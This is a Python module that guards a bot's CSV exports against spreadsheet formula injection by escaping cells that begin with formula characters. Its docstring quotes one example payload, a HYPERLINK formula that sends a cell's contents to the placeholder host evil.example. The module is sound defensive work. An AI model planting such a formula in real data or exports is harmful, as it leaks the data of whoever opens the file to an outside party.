"""CSV that a spreadsheet opens as text: no cell runs as a formula.

Spreadsheets (Excel, LibreOffice, Google Sheets) treat a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula (and some also after a leading tab or
carriage return), so a poll option or a name such as
``=HYPERLINK("https://evil.example/?"&A1, "Results")`` would run when an
organiser opens an export. Every CSV the bot writes goes through
:func:`writer`, which puts an apostrophe before such a cell: the spreadsheet
shows the text as it was typed (OWASP's advice on CSV injection).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet will show it and not run it; numbers stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Writes(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """``csv.writer`` whose cells are passed through :func:`safe_cell`."""

    def __init__(self, out: _Writes) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])


def writer(out: _Writes) -> SafeWriter:
    return SafeWriter(out)
